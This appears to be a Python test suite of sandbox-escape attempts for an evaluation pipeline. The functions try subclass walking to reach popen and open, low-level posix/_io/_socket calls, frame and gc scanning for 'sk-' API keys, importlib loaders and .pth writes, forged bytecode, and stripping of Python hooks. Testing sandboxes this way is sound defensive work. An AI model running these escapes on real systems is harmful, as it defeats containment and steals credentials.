"""Python's own back doors, all the way to what is really forbidden: a process, a socket, a file."""

from __future__ import annotations

import sys

from evals_pipeline_tests.sandbox.attacks.attack import attack
from evals_pipeline_tests.sandbox.attacks.kit import read


@attack()
def goes_through_the_subclasses_of_object(notes, aim):
    found = {each.__name__: each for each in ().__class__.__base__.__subclasses__()}
    loaded = found["_wrap_close"].__init__.__globals__
    notes.attempt("shell", lambda: loaded["popen"]("id").read()[0])
    notes.attempt("open", lambda: found["_wrap_close"].__init__.__builtins__["open"](aim.files.secret).read())


@attack()
def calls_the_modules_beneath(notes, aim):
    import _io
    import _posixsubprocess  # noqa: F401  # shows that importing it is no help
    import _socket
    import posix

    notes.attempt("posix.open", posix.open, aim.files.secret, 0)
    notes.attempt("posix.fork", lambda: posix.fork() or posix._exit(0))
    notes.attempt("_io.FileIO", lambda: _io.FileIO(aim.files.secret).read())
    notes.attempt("_io.open_code", lambda: _io.open_code(aim.files.secret).read())
    notes.attempt("_socket.socket", _socket.socket)


@attack()
def climbs_the_frames(notes, aim):
    """Up to the loop that called it: whatever the worker or its server still hold."""
    frame, held = sys._getframe(), []
    while frame is not None:
        for name, value in [*frame.f_locals.items(), *frame.f_globals.items()]:
            if name not in ("notes", "aim", "frame", "held"):
                held.append(f"{name}={str(value)[:2000]}")
        frame = frame.f_back
    text = "\n".join(held)
    at = text.find("sk-")
    notes.see("held", text[at : at + 60] if at >= 0 else f"{len(held)} names")
    notes.attempt("with them", read, aim.files.secret)


@attack()
def searches_all_objects(notes, aim):
    """What the fork server had in memory, all workers inherit."""
    import gc
    import types

    found = []
    for each in gc.get_objects():
        values = each.values() if type(each) is dict else each if type(each) in (list, tuple) else ()
        found += [value for value in list(values) if type(value) in (str, bytes) and "sk-" in str(value)[:200]]
    notes.see("secrets", found[:3])
    modules = [name for name, value in list(sys.modules.items()) if isinstance(value, types.ModuleType)]
    notes.see("modules", len(modules))
    notes.attempt("in the name of a module", read, aim.files.secret)


@attack()
def loads_modules_from_elsewhere(notes, aim):
    import importlib.machinery
    import importlib.util
    import os

    def load(loader, path):
        spec = importlib.util.spec_from_loader("stolen", loader("stolen", path))
        return loader("stolen", path).get_data(path) or importlib.util.module_from_spec(spec)

    sys.path.insert(0, aim.files.folder)
    notes.attempt("source", load, importlib.machinery.SourceFileLoader, aim.files.secret)
    notes.attempt("bytecode", load, importlib.machinery.SourcelessFileLoader, aim.files.secret)
    notes.attempt("extension", load, importlib.machinery.ExtensionFileLoader, aim.files.secret)
    sys.dont_write_bytecode = False
    notes.attempt("cache", os.makedirs, aim.files.folder + "/__pycache__/x")
    notes.attempt("site", os.open, aim.files.places[-1] + f"/{aim.files.mark}.pth", os.O_CREAT | os.O_WRONLY)


@attack(ends=("", "WorkerCrashed"))
def forges_code_objects(notes, aim):
    """Bytecode that no compiler makes reads past its constants."""
    code = (lambda: None).__code__
    names = {"co_code": bytes([100, 255, 83, 0] * 4), "co_consts": ()}
    notes.end("bytecode")
    got = type(lambda: None)(code.replace(**names), {})()
    notes.see("got", repr(got)[:100])
    notes.attempt("with it", read, aim.files.secret)


@attack()
def undoes_what_it_believes_is_a_guard(notes, aim):
    """Hooks, filters and builtins of Python are no wall; nothing behind them may give way."""
    import builtins
    import importlib
    import os
    import warnings

    sys.setrecursionlimit(10_000)
    sys.settrace(None)
    sys.setprofile(None)
    warnings.resetwarnings()
    importlib.invalidate_caches()
    sys.meta_path[:] = [each for each in sys.meta_path if "rozen" in str(each) or "Path" in str(each)]
    notes.attempt("open", builtins.open, aim.files.secret)
    notes.attempt("fork", lambda: os.fork() or os._exit(0))
    notes.attempt("reloaded", lambda: importlib.reload(os).open(aim.files.secret, 0))
